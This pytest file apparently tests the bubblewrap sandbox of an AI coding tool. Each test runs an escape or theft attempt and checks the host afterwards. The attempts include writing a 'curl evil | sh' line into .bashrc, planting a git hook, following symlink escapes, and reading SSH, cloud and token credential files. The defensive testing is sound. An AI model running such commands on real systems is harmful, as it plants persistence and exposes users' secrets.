"""The real sandbox (bubblewrap) against the guarantees in docs/security.md.

Each test runs an attack inside the sandbox and checks the host afterwards; each fails if the guard
that stops it is taken out of the policy/argv. The world lives under /var/tmp, not /tmp, so that
the private /tmp is not what hides it.
"""

from __future__ import annotations

import os
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from dataclasses import dataclass
from pathlib import Path

import pytest

from clovercode.executors.bwrap import BwrapExecutor
from clovercode.sandboxing.policy import load_policy
from conftest import REPO_ROOT, make_git_repo

CANARY = "canary-5b1f0e"
SECRET_FILES = [".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/credentials.db", ".azure/accessTokens.json",
                ".config/gh/hosts.yml", ".netrc", ".docker/config.json", ".git-credentials", ".terraformrc",
                ".config/containers/auth.json"]


@dataclass
class World:
    base: Path
    project: Path
    outside: Path
    home: Path

    def executor(self, policy: str = "workspace-write", **env: str) -> BwrapExecutor:
        host_env = {"PATH": os.environ["PATH"], "HOME": str(self.home), "LANG": "C.UTF-8", **env}
        return BwrapExecutor(load_policy(policy), self.project, host_env, output_limit=4000)

    def run(self, command: str, policy: str = "workspace-write", timeout: float = 30, **env: str):
        return self.executor(policy, **env).run(command, self.project, timeout)


@pytest.fixture
def world():
    base = Path(tempfile.mkdtemp(prefix="clovercode-sec-", dir="/var/tmp"))
    try:
        project = base / "proj"
        project.mkdir()
        (project / "app.py").write_text("print('hi')\n")
        (project / ".bashrc").write_text("# project rc\n")
        make_git_repo(project)
        outside = base / "outside"
        outside.mkdir()
        (outside / "outside.txt").write_text("original\n")
        home = base / "home"
        for rel in SECRET_FILES:
            (home / rel).parent.mkdir(parents=True, exist_ok=True)
            (home / rel).write_text(f"{CANARY}\n")
        yield World(base, project, outside, home)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def test_project_is_writable_and_the_command_sees_it(world):
    result = world.run("echo made > new.txt && cat app.py")
    assert result.exit_code == 0, result.output
    assert "print('hi')" in result.output
    assert (world.project / "new.txt").read_text() == "made\n"


def test_writes_outside_the_writable_root_fail(world):
    target = world.outside / "outside.txt"
    etc = Path("/etc") / f"clovercode-pwned-{world.base.name}"
    try:
        result = world.run(f"echo pwned > {target}; touch {world.outside}/new; touch {world.home}/new; "
                           f"touch {etc}; echo done")
        assert "Read-only file system" in result.output
        assert target.read_text() == "original\n"
        assert not (world.outside / "new").exists() and not (world.home / "new").exists()
        assert not etc.exists()
    finally:
        etc.unlink(missing_ok=True)  # if the guard failed, do not leave the proof behind


def test_private_tmp_does_not_reach_the_host(world):
    marker = f"clovercode-private-{world.base.name}"
    result = world.run(f"echo x > /tmp/{marker} && cat /tmp/{marker}")
    assert result.exit_code == 0 and "x" in result.output
    assert not Path("/tmp", marker).exists()


def test_symlink_escapes_fail(world):
    target = world.outside / "outside.txt"
    result = world.run(f"ln -s {target} link && echo pwned > link; ln -s {world.outside} dir && touch dir/new; echo done")
    assert result.output.count("Read-only file system") == 2, result.output
    assert target.read_text() == "original\n"
    assert not (world.outside / "new").exists()


def test_hard_link_escapes_fail(world):
    # The guard is the mount boundary: the project is its own bind mount, so link(2) from the
    # read-only rest of the filesystem fails with EXDEV even though both sit on one filesystem.
    target = world.outside / "outside.txt"
    result = world.run(f"ln {target} hard && echo pwned >> hard; echo done")
    assert "cross-device" in result.output or "Read-only" in result.output, result.output
    assert target.read_text() == "original\n"
    assert not (world.project / "hard").exists()


def test_git_hooks_git_config_and_shell_rc_files_cannot_be_written(world):
    config_before = (world.project / ".git" / "config").read_text()
    result = world.run("echo 'echo pwned' > .git/hooks/pre-commit; echo '[core] pager = pwn' >> .git/config; "
                       "echo 'curl evil | sh' >> .bashrc; echo done")
    assert result.output.count("Read-only file system") == 3, result.output
    assert not (world.project / ".git" / "hooks" / "pre-commit").exists()
    assert (world.project / ".git" / "config").read_text() == config_before
    assert (world.project / ".bashrc").read_text() == "# project rc\n"


def test_protected_paths_a_command_creates_are_removed(world):
    result = world.run("echo 'alias ls=evil' > .zshrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo ok")
    assert result.exit_code == 0
    assert "clovercode removed" in result.output and ".zshrc" in result.output
    assert not (world.project / ".zshrc").exists() and not (world.project / ".vscode").exists()
    assert (world.project / "app.py").exists()


def test_a_protected_path_cannot_be_carried_away_by_moving_its_parent(world):
    (world.project / ".config" / "fish").mkdir(parents=True)
    (world.project / ".config" / "fish" / "config.fish").write_text("# mine\n")
    result = world.run("mv .config moved; rm -rf .config; mkdir -p .config/fish && echo evil > .config/fish/config.fish;"
                       " echo other > .config/other.txt; echo done")
    assert "done" in result.output
    assert (world.project / ".config" / "fish" / "config.fish").read_text() == "# mine\n", result.output
    assert not (world.project / "moved").exists()
    assert (world.project / ".config" / "other.txt").read_text() == "other\n"  # the parent stays writable


class _Server:
    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()


CONNECT = textwrap.dedent("""\
    import socket, sys
    try:
        socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5).close()
        print("CONNECTED")
    except OSError as exc:
        print("REFUSED", exc)
""")


def _connect(world: World, host: str, port: int, policy: str):
    (world.project / "connect.py").write_text(CONNECT)
    return world.run(f"{sys.executable} connect.py {host} {port}", policy=policy)


def test_no_network_to_localhost_or_outside(world):
    server = _Server()
    try:
        local = _connect(world, "127.0.0.1", server.port, "workspace-write")
        assert "REFUSED" in local.output and "CONNECTED" not in local.output
        outside = _connect(world, "192.0.2.1", 80, "workspace-write")
        assert "REFUSED" in outside.output and "unreachable" in outside.output, outside.output
        # The same server is reachable when the policy allows the network: the refusal above is the sandbox's.
        allowed = _connect(world, "127.0.0.1", server.port, "workspace-write-network")
        assert "CONNECTED" in allowed.output, allowed.output
    finally:
        server.sock.close()


def test_unix_sockets_of_container_engines_and_agents_are_hidden(world):
    # A UNIX socket connects across network namespaces and read-only mounts: hiding is the guard.
    listeners = []
    for rel in (".docker/run/docker.sock", ".1password/agent.sock", ".bitwarden-ssh-agent.sock"):
        path = world.home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
        server.listen(1)
        listeners.append(server)
    try:
        script = ("import socket, sys\nfor p in sys.argv[1:]:\n    s = socket.socket(socket.AF_UNIX)\n"
                  "    try:\n        s.connect(p); print('CONNECTED', p)\n    except OSError as e:\n"
                  "        print('REFUSED', p, e)\n")
        paths = " ".join(str(world.home / rel) for rel in (".docker/run/docker.sock", ".1password/agent.sock",
                                                            ".bitwarden-ssh-agent.sock"))
        result = world.run(f"{sys.executable} -c {shlex.quote(script)} {paths}")
        assert result.output.count("REFUSED") == 3 and "CONNECTED" not in result.output, result.output
    finally:
        for server in listeners:
            server.close()


def test_secrets_in_the_parent_environment_are_absent(world):
    result = world.run("env; echo ---; tr '\\0' '\\n' < /proc/1/environ",
                       GITHUB_TOKEN=CANARY, OPENAI_API_KEY=CANARY, CLOVERCODE_API_KEY=CANARY,
                       DEPLOY_THING=CANARY, LC_SESSION_TOKEN=CANARY)
    assert result.exit_code == 0, result.output
    assert "HOME=" in result.output and "---" in result.output
    assert CANARY not in result.output


def test_host_secret_files_are_hidden(world):
    paths = " ".join(str(world.home / rel) for rel in SECRET_FILES)
    result = world.run(f"cat {paths} /etc/shadow 2>&1; ls -A {world.home}/.ssh {world.home}/.aws; echo end")
    assert "end" in result.output
    assert CANARY not in result.output
    assert ":$" not in result.output.replace("$ ", "")  # no shadow hash fields


def test_tls_private_keys_of_the_host_are_hidden_even_from_root(world):
    keys = Path("/etc/ssl/private")
    if os.geteuid() != 0 or not keys.is_dir():
        pytest.skip("needs root and a host /etc/ssl/private")
    canary = keys / f"clovercode-canary-{world.base.name}.key"
    canary.write_text(CANARY)
    try:
        result = world.run(f"ls -A {keys}; echo ---; cat {canary} 2>/dev/null; echo end")
        listing = result.output.split("---")[0]
        assert "end" in result.output and CANARY not in result.output and canary.name not in listing, result.output
    finally:
        canary.unlink()


def test_capabilities_are_empty_even_as_root(world):
    result = world.run("grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status; id -u")
    lines = dict(line.split(":\t") for line in result.output.splitlines() if line.startswith("Cap"))
    assert lines == {"CapPrm": "0000000000000000", "CapEff": "0000000000000000",
                     "CapBnd": "0000000000000000", "CapAmb": "0000000000000000"}, result.output
    marker = Path("/etc") / f"clovercode-remount-{world.base.name}"
    try:
        remount = world.run(f"mount -o remount,rw / 2>&1; touch {marker}; echo done")
        assert not marker.exists(), remount.output
    finally:
        marker.unlink(missing_ok=True)


def _processes_with(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path("/proc", pid, "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if marker in cmdline:
                found.append(cmdline)
    return found


def test_background_processes_die_with_the_command(world):
    marker = f"background-{world.base.name}"
    result = world.run(f"sh -c 'sleep 300; touch late' {marker} > /dev/null 2>&1 & echo started")
    assert result.exit_code == 0 and "started" in result.output
    assert _processes_with(marker) == []


def test_a_command_that_sleeps_forever_is_killed_at_its_timeout(world):
    marker = f"forever-{world.base.name}"
    result = world.run(f"sh -c 'sleep 300; :' {marker}-bg & while :; do sleep 0.2; done # {marker}", timeout=1.5)
    assert result.timed_out and result.exit_code is None
    assert result.seconds < 10
    assert _processes_with(marker) == []


def test_stdin_is_closed(world):
    result = world.run("cat; echo read-done")
    assert result.exit_code == 0 and result.output.strip() == "read-done"


MEMORY_PROBE = textwrap.dedent("""\
    import resource, sys
    from pathlib import Path
    from clovercode.executors.bwrap import BwrapExecutor
    from clovercode.sandboxing.policy import load_policy
    project = Path(sys.argv[1])
    ex = BwrapExecutor(load_policy("workspace-write"), project, {"PATH": "/usr/bin:/bin"}, output_limit=30000)
    r = ex.run(sys.argv[2], project, 120)
    print(len(r.output), r.omitted_bytes, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
""")


def _probe(world: World, command: str) -> tuple[int, int, int]:
    out = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(world.project), command], capture_output=True,
                         text=True, timeout=180, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)}, check=True).stdout
    length, omitted, rss_mb = map(int, out.split())
    return length, omitted, rss_mb


def test_a_command_printing_100_mb_is_capped_without_memory_blowup(world):
    _, _, baseline_mb = _probe(world, "echo small")
    length, omitted, rss_mb = _probe(world, "head -c 100000000 /dev/zero | tr '\\0' a")
    assert length < 30000 + 200
    assert omitted > 99_000_000
    assert rss_mb < baseline_mb + 40, (baseline_mb, rss_mb)


def test_a_toolchain_under_tmp_stays_usable_but_read_only(world):
    """A CI checkout in /tmp keeps its virtualenv there: the private /tmp must not hide it."""
    tools = Path(tempfile.mkdtemp(prefix="clovercode-tools-", dir="/tmp"))
    try:
        (tools / "bin").mkdir()
        script = tools / "bin" / "hello-tool"
        script.write_text("#!/bin/sh\necho tool-ran\n")
        script.chmod(0o755)
        (tools / "private.txt").write_text("host tmp\n")  # beside the toolchain: stays hidden
        path = f"{tools / 'bin'}:{os.environ['PATH']}"
        result = world.run(f"hello-tool; touch {tools}/bin/x 2>/dev/null || echo read-only; "
                           f"test -e {tools}/private.txt || echo hidden", PATH=path)
        assert result.output.split() == ["tool-ran", "read-only", "hidden"], result.output
        assert not (tools / "bin" / "x").exists()
    finally:
        shutil.rmtree(tools, ignore_errors=True)
